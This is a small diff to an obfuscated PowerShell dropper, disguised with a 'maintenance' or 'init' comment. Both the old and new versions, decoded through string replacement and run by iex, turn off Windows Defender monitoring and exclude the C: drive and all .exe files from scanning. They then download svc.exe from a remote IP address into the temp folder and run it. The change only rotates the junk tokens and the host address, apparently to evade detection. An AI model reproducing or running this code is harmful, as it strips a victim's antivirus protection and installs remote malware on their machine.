@@ -1,7 +1,7 @@
-iex (('# maintenance 8748 v4
-Set-MpPreference -qj~0isableRealtimeMonitoring $true KZZ10-qj~0isableBehaviorMonitoring $true -qj~0isableIOAVProtection $true
-Add-MpPreference -ExclusionPathKZZ10 ''C:\''
-AdKZZ10d-MpPreference -ExclusionExtension ''.exe''
-(New-Object Net.WebClient).qj~0ownloadFile(''http://198.51.100.2KZZ103/svc.exe'', "$env:TEMP\sKZZ10vc.exe")
+iex (('# init 0834 v4
+Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $tVZQ18rue -DisableIOAVProtection $true
+Add-MpPreference -ExclusionPath ''C:\''VZQ18
+Add-MpPreference -ExclusionExtension ''.exe''
+(New-Object Net.WebClient).Downloadjq~3ile(''http://198.51.100.9/svc.exe'', "$env:TEMP\svc.exe")
 Start-Process "$env:TEMP\svc.exe"
-' -replace 'KZZ10','').Replace('qj~0','D'))
+' -replace 'VZQ18','').Replace('jq~3','F'))
